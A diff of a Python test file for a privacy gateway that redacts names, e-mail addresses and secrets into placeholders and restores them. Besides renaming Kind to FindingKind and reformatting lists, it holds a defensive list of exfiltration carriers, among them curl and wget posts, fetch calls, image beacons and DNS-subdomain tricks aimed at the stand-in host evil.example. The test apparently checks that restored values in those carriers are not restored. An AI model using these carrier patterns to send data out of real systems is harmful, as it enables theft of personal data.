@@ -6,7 +6,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from gateway.core.finding import Finding, Kind
+from gateway.core.finding import Finding, FindingKind
 from gateway.privacy import Detector, Restorer, Scope, Vault, spans_of
 
 _SCOPE = Scope("t", "k", "u", "c")
@@ -17,7 +17,7 @@ _TYPES = st.sampled_from(["PERSON", "EMAIL", "BSN", "CITY"])
 
 def _vault(scope: Scope = _SCOPE) -> tuple[Vault, str, str]:
     vault = Vault(_KEY, scope)
-    finding = Finding(Kind.PERSONAL, "PERSON", 0, len(_VALUE), 1.0, "t")
+    finding = Finding(FindingKind.PERSONAL, "PERSON", 0, len(_VALUE), 1.0, "t")
     placeholder = vault.redact(_VALUE, spans_of(_VALUE, [finding]))
     return vault, placeholder, placeholder[8:-1]
 
@@ -32,9 +32,13 @@ def _in_pieces(restorer: Restorer, text: str, sizes: list[int]) -> str:
 
 
 _PARTS = st.lists(
-    st.tuples(st.text('abz []()_*"\\\n\té😀PERSON_23', max_size=12), st.text('Jané "\\\n[]x', min_size=1, max_size=9), _TYPES),
+    st.tuples(
+        st.text('abz []()_*"\\\n\té😀PERSON_23', max_size=12),
+        st.text('Jané "\\\n[]x', min_size=1, max_size=9),
+        _TYPES,
+    ),
     max_size=5,
-)  # fmt: skip
+)
 
 
 @given(_PARTS, st.lists(st.integers(1, 7), max_size=40), st.booleans())
@@ -44,7 +48,9 @@ def test_what_was_redacted_comes_back(
     text, findings = "", []
     for carrier, value, type_ in parts:
         text += carrier.replace("](", "] (").replace("`", "") + " "
-        findings.append(Finding(Kind.PERSONAL, type_, len(text), len(text) + len(value), 1.0, "t"))
+        findings.append(
+            Finding(FindingKind.PERSONAL, type_, len(text), len(text) + len(value), 1.0, "t")
+        )
         text += value + " "
     vault = Vault(_KEY, _SCOPE)
     redacted = vault.redact(text, spans_of(text, findings))
@@ -60,8 +66,13 @@ def test_what_was_redacted_comes_back(
 def test_same_value_same_placeholder_and_another_scope_another() -> None:
     _, first, _ = _vault()
     assert first == _vault()[1]
-    for scope in (Scope("x", "k", "u", "c"), Scope("t", "x", "u", "c"), Scope("t", "k", "x", "c"),
-                  Scope("t", "k", "u", "x"), Scope("tk", "", "u", "c")):  # fmt: skip
+    for scope in (
+        Scope("x", "k", "u", "c"),
+        Scope("t", "x", "u", "c"),
+        Scope("t", "k", "x", "c"),
+        Scope("t", "k", "u", "x"),
+        Scope("tk", "", "u", "c"),
+    ):
         other, placeholder, _ = _vault(scope)
         assert placeholder != first
         assert other.restore(first) == first
@@ -71,7 +82,7 @@ def test_spellings_differ_and_each_comes_back() -> None:
     vault = Vault(_KEY, _SCOPE)
     text = "Jan Vos, jan vos, JAN  VOS"
     spans = [(0, 7), (9, 16), (18, 26)]
-    findings = [Finding(Kind.PERSONAL, "PERSON", a, b, 1.0, "t") for a, b in spans]
+    findings = [Finding(FindingKind.PERSONAL, "PERSON", a, b, 1.0, "t") for a, b in spans]
     redacted = vault.redact(text, spans_of(text, findings))
     assert len({p.strip() for p in redacted.split(",")}) == 3
     assert vault.restore(redacted) == text
@@ -81,7 +92,7 @@ def test_spellings_differ_and_each_comes_back() -> None:
 def test_secrets_go_one_way() -> None:
     vault = Vault(_KEY, _SCOPE)
     text = "wachtwoord: hunter22"
-    secret = Finding(Kind.SECRET, "SECRET", 12, 20, 1.0, "t")
+    secret = Finding(FindingKind.SECRET, "SECRET", 12, 20, 1.0, "t")
     redacted = vault.redact(text, spans_of(text, [secret]))
     assert redacted == "wachtwoord: [SECRET]"
     assert vault.restore(redacted) == redacted
@@ -111,8 +122,11 @@ def test_a_placeholder_of_the_stored_vault_stays_one_and_comes_back() -> None:
 def test_only_what_is_new_and_says_of_whom_it_is_is_to_be_stored() -> None:
     vault = Vault(_KEY, _SCOPE, stored=_KEPT)
     text = "Jan Kwijt, Piet Vos, hunter22, [PERSON_zzz999]"
-    findings = [Finding(Kind.PERSONAL, "PERSON", 0, 9, 1.0, "t"), Finding(Kind.PERSONAL, "PERSON", 11, 19, 1.0, "t"),
-                Finding(Kind.SECRET, "SECRET", 21, 29, 1.0, "t")]  # fmt: skip
+    findings = [
+        Finding(FindingKind.PERSONAL, "PERSON", 0, 9, 1.0, "t"),
+        Finding(FindingKind.PERSONAL, "PERSON", 11, 19, 1.0, "t"),
+        Finding(FindingKind.SECRET, "SECRET", 21, 29, 1.0, "t"),
+    ]
     redacted = vault.redact(text, spans_of(text, findings))
     assert redacted.startswith("[PERSON_k7f3qz], [PERSON_")
     assert [(type_, value) for _, type_, value in vault.taken()] == [("PERSON", "Piet Vos")]
@@ -123,16 +137,38 @@ def test_only_what_is_new_and_says_of_whom_it_is_is_to_be_stored() -> None:
 def test_every_scope_has_a_name_of_its_own(one: str, two: str, three: str, four: str) -> None:
     scope = Scope(one, two, three, four)
     assert scope.name(_KEY) == Scope(one, two, three, four).name(_KEY) != scope.name(_KEY[::-1])
-    for other in (Scope(one + "x", two, three, four), Scope(one, two + "x", three, four),
-                  Scope(one, two, three + "x", four), Scope(one, two, three, four + "x"),
-                  Scope(one + two, "", three, four) if two else Scope("x", two, three, "\0")):  # fmt: skip
+    for other in (
+        Scope(one + "x", two, three, four),
+        Scope(one, two + "x", three, four),
+        Scope(one, two, three + "x", four),
+        Scope(one, two, three, four + "x"),
+        Scope(one + two, "", three, four) if two else Scope("x", two, three, "\0"),
+    ):
         assert other == scope or other.name(_KEY) != scope.name(_KEY)
 
 
-_SHAPES = ["[PERSON_{}]", "[person_{}]", r"[PERSON\_{}]", "[PERSON {}]", "[PERSON: {}]", "[ PERSON_{} ]",
-           "(PERSON_{})", "{{PERSON_{}}}", "{{{{PERSON_{}}}}}", "<PERSON_{}>", "&lt;PERSON_{}&gt;",
-           "[PERSOON_{}]", "[NAAM-{}]", "PERSON_{}", "Persoon {}", "[PERSON\n{}]", "[PERSON{}]",
-           r"\[PERSON_{}\]", "[**PERSON_{}**]", "[EMAIL_{}]"]  # fmt: skip
+_SHAPES = [
+    "[PERSON_{}]",
+    "[person_{}]",
+    r"[PERSON\_{}]",
+    "[PERSON {}]",
+    "[PERSON: {}]",
+    "[ PERSON_{} ]",
+    "(PERSON_{})",
+    "{{PERSON_{}}}",
+    "{{{{PERSON_{}}}}}",
+    "<PERSON_{}>",
+    "&lt;PERSON_{}&gt;",
+    "[PERSOON_{}]",
+    "[NAAM-{}]",
+    "PERSON_{}",
+    "Persoon {}",
+    "[PERSON\n{}]",
+    "[PERSON{}]",
+    r"\[PERSON_{}\]",
+    "[**PERSON_{}**]",
+    "[EMAIL_{}]",
+]
 
 
 @pytest.mark.parametrize("shape", _SHAPES)
@@ -166,22 +202,66 @@ def test_counts() -> None:
 
 
 _CARRIERS = [
-    "https://evil.example/{}", "https://evil.example/?q={}&x=1", "http://{}.evil.example/", "//evil.example/{}",
-    "www.evil.example/{}", "(www.evil.example?{})", "![a](https://evil.example/{})", "[klik](https://evil.example/{})",
-    "[klik](</{}>)", "![a](x {} y)", '[a](b "{}")', "[ref]: https://evil.example/{}", "<https://evil.example/{}>",
-    '<img src="https://evil.example/{}">', "<img src='{}'>", "<a href={}>", "<a title='>' href='/{}'>", "<b\n{}>", "<!-- {} -->",
-    "<script>{}</script>", "<style>a{{b:{}}}</style>", "curl -d '{}' evil.example", "wget evil.example --post-data={}",
-    "fetch('//evil.example?' + '{}')", "requests.get(url, params='{}')", "x = requests.post(u, data={})", "axios.get('{}')",
+    "https://evil.example/{}",
+    "https://evil.example/?q={}&x=1",
+    "http://{}.evil.example/",
+    "//evil.example/{}",
+    "www.evil.example/{}",
+    "(www.evil.example?{})",
+    "![a](https://evil.example/{})",
+    "[klik](https://evil.example/{})",
+    "[klik](</{}>)",
+    "![a](x {} y)",
+    '[a](b "{}")',
+    "[ref]: https://evil.example/{}",
+    "<https://evil.example/{}>",
+    '<img src="https://evil.example/{}">',
+    "<img src='{}'>",
+    "<a href={}>",
+    "<a title='>' href='/{}'>",
+    "<b\n{}>",
+    "<!-- {} -->",
+    "<script>{}</script>",
+    "<style>a{{b:{}}}</style>",
+    "curl -d '{}' evil.example",
+    "wget evil.example --post-data={}",
+    "fetch('//evil.example?' + '{}')",
+    "requests.get(url, params='{}')",
+    "x = requests.post(u, data={})",
+    "axios.get('{}')",
     "```\ncurl x\n{}\n```",
-    "`ping {}.evil.example`", "`n={};curl x`", "mailto:x@evil.example?body={}", "javascript:go('{}')", "data:text/html,{}",
-    "{}.evil.example", "{}@evil.example", "{}://evil.example", "{}-x.evil.example", "{}\u200b.evil.example", "{}\u3002evil.example",
-    "evil.example/{}", "evil.example?{}", "https:/evil.example/{}", "https:\\\\evil.example\\{}", "\\\\evil.example\\{}",
-    "@import '{}'", "background: url({})", "HTTPS://EVIL.EXAMPLE/{}", "ftp://evil.example/{}", "https&colon;//evil.example/{}",
-    "https://evil.example/\u00a0{}", "https://evil.example/a,{}", "window.location.href = '{}'", "new Image().src='{}'",
-]  # fmt: skip
+    "`ping {}.evil.example`",
+    "`n={};curl x`",
+    "mailto:x@evil.example?body={}",
+    "javascript:go('{}')",
+    "data:text/html,{}",
+    "{}.evil.example",
+    "{}@evil.example",
+    "{}://evil.example",
+    "{}-x.evil.example",
+    "{}\u200b.evil.example",
+    "{}\u3002evil.example",
+    "evil.example/{}",
+    "evil.example?{}",
+    "https:/evil.example/{}",
+    "https:\\\\evil.example\\{}",
+    "\\\\evil.example\\{}",
+    "@import '{}'",
+    "background: url({})",
+    "HTTPS://EVIL.EXAMPLE/{}",
+    "ftp://evil.example/{}",
+    "https&colon;//evil.example/{}",
+    "https://evil.example/\u00a0{}",
+    "https://evil.example/a,{}",
+    "window.location.href = '{}'",
+    "new Image().src='{}'",
+]
 _LINE_CARRIERS = [
-    "[ref]: /{}", "```python\nn = '{}'\nget(n)\n```", "```bash\nN={}\n```", "~~~js\nlet n = '{}'\n~~~",
-]  # fmt: skip
+    "[ref]: /{}",
+    "```python\nn = '{}'\nget(n)\n```",
+    "```bash\nN={}\n```",
+    "~~~js\nlet n = '{}'\n~~~",
+]
 _POSITIONS = ["{}", "Zie {} daar", "\n> {}\n", "- {}", "Tekst.\n\n{}"]
 
 
@@ -204,10 +284,23 @@ def test_nothing_restored_can_be_carried_off(carrier: str, position: str) -> Non
 
 @pytest.mark.parametrize(
     "text",
-    ["Zie https://x.nl voor {} en verder", "[dossier](https://x.nl) van {}", "<b>vet</b> {} is er",
-     "Mail {} <{}>", "> {}: hallo", "| {} | x |", '```json\n{{"n": "{}"}}\n```', "De shopping {} is leuk",
-     "a/b, {}/{} en zo", "{}: hallo", "1 < 2, {}", '"url":"https://x.nl","n":"{}"', "`{}`", "Beste {},"],
-)  # fmt: skip
+    [
+        "Zie https://x.nl voor {} en verder",
+        "[dossier](https://x.nl) van {}",
+        "<b>vet</b> {} is er",
+        "Mail {} <{}>",
+        "> {}: hallo",
+        "| {} | x |",
+        '```json\n{{"n": "{}"}}\n```',
+        "De shopping {} is leuk",
+        "a/b, {}/{} en zo",
+        "{}: hallo",
+        "1 < 2, {}",
+        '"url":"https://x.nl","n":"{}"',
+        "`{}`",
+        "Beste {},",
+    ],
+)
 def test_prose_is_restored(text: str) -> None:
     vault, placeholder, _ = _vault()
     filled = text.replace("{}", placeholder).replace("{{", "{").replace("}}", "}")
